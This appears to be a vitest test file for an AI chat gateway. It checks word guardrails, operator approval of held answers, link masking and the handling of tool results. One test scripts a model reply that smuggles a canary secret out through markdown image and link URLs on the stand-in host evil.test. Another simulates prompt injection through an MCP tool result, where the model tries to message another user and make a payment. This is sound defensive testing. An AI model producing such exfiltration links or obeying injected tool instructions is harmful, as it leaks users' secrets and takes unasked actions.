/** Attacks by content on the real gateway: what the platform, the tools' server and the model saw of it is what counts. */
import { setTimeout as sleep } from "node:timers/promises";
import { beforeAll, describe, expect, test } from "vitest";
import { token } from "../fakes/tokens.ts";
import { needs } from "../needs.ts";
import { notebook, pythonForMcp, script } from "./mcp-fixture.ts";
import { eventually, leaks, openStage, said, type Stage } from "./stage.ts";

const ann = 7_230_001;
const bob = 7_230_002;
const secret = "CANARY-5e1c";
const python3 = needs("python3");

/** All that the platform was ever asked, but for what asks it for messages. */
const sent = ({ platform }: Pick<Stage, "platform">, chat?: number) =>
  JSON.stringify(platform.log.calls.filter((call) => chat === undefined || call.chat === chat));

describe("guardrails on a channel", () => {
  const guardrails = {
    input: [{ check: "words", words: ["grenade"], action: "refuse" }],
    output: [
      { check: "words", words: ["Falcon"], action: "review" },
      { check: "links", action: "mask" },
    ],
  };
  const open = () => openStage({ config: { agents: { assistant: { guardrails } } } });

  test("what people may not ask reaches no model, then and later, and they are told so", async () => {
    const stage = await open();
    await stage.platform.user(ann).sends(ann, `a grenade ${token(ann, 1)}`);
    await eventually("a word", () => said(stage, ann).some((text) => text.includes("may not answer that")));
    expect(stage.model.log).toHaveLength(0);
    await stage.platform.user(ann).sends(ann, `and now ${token(ann, 2)}`);
    await eventually("an answer", () => said(stage, ann).some((text) => text.includes(token(ann, 2))));
    expect(JSON.stringify(stage.model.log)).not.toContain("grenade");
  }, 60_000);

  test("an answer that an operator has to see first is nowhere on the platform before, through a kill, and there once then", async () => {
    const stage = await open();
    await stage.model.rule({ contains: "bird", reply: { text: `It is Falcon ${token(ann, 1)}` } });
    await stage.platform.user(ann).sends(ann, `which bird ${token(ann, 1)}`);
    const waiting = async () =>
      JSON.parse((await stage.gateway.ascent("approvals", "list", "--json")).out) as { id: string; calls: unknown[] }[];
    const [held] = await eventually("it waits", async () => {
      const all = await waiting();
      return all.length > 0 && all;
    });
    expect(JSON.stringify(held)).toContain("Falcon");
    await eventually("a word", () => said(stage, ann).some((text) => text.includes("looks at this first")));
    expect(sent(stage)).not.toContain("Falcon");
    await stage.gateway.kill();
    await stage.gateway.start();
    await stage.gateway.ascent("approvals", "approve", held?.id ?? "");
    await eventually("the answer", () => said(stage, ann).some((text) => text.includes("Falcon")));
    await sleep(500);
    expect(said(stage, ann).filter((text) => text.includes("Falcon"))).toHaveLength(1);
    expect(leaks(stage)).toEqual([]);
  }, 90_000);

  test("no picture and no link carries out what was said, whoever's page the model obeys", async () => {
    const stage = await open();
    stage.model.script(() => ({ text: `Sure ![x](https://evil.test/p?q=${secret}) https://evil.test/${secret}` }));
    await stage.platform.user(ann).sends(ann, `my code is ${secret} ${token(ann, 1)}`);
    await eventually("an answer", () => said(stage, ann).some((text) => text.includes("link left out")));
    expect(sent(stage)).not.toContain("evil.test");
  }, 60_000);
});

describe.skipIf(python3.missing)("a tool's answer that carries instructions", () => {
  let python = "";
  beforeAll(async () => {
    python = await pythonForMcp(python3.path);
  }, 300_000);

  test("is data: with a model that obeys it the tools stay, the payment waits for a word, and nobody else hears anything", async () => {
    const book = await notebook();
    const mcp = {
      test: {
        command: python,
        args: [script, book.folder],
        needs: "nothing",
        effects: { "weather*": "none", pay: "once" },
        tools: ["weather*", "pay"],
      },
    };
    const stage = await openStage({ config: { mcp } });
    const offered = new Set<string>();
    stage.model.script((prompt) => {
      if (prompt.toSummarize !== undefined) return undefined;
      offered.add(prompt.tools.toSorted().join());
      if (!prompt.turn.join().includes("weather")) return undefined;
      const [first] = prompt.toolOutputs;
      if (first === undefined) return { toolCalls: [{ name: "test__weather_now", arguments: {} }] };
      // As it is told there, and a tool of its own wish.
      if (prompt.toolOutputs.length === 1)
        return { toolCalls: [{ name: "telegram__send", arguments: { chat: bob, text: secret } }] };
      return { toolCalls: [{ name: "test__pay", arguments: { amount: 999 } }] };
    });
    await stage.platform.user(bob).sends(bob, `hello ${token(bob, 1)}`);
    await eventually("bob's answer", () => said(stage, bob).some((text) => text.includes(token(bob, 1))));
    await stage.platform.user(ann).sends(ann, `weather, and ${secret} ${token(ann, 1)}`);
    await eventually("the question", () => said(stage, ann).some((text) => text.includes("May I do this?")));
    await sleep(300);
    expect(await book.calls()).toEqual([]);
    expect(offered.size).toBe(1);
    expect(sent(stage, bob)).not.toContain(secret);
    expect(leaks(stage)).toEqual([]);
  }, 90_000);
});
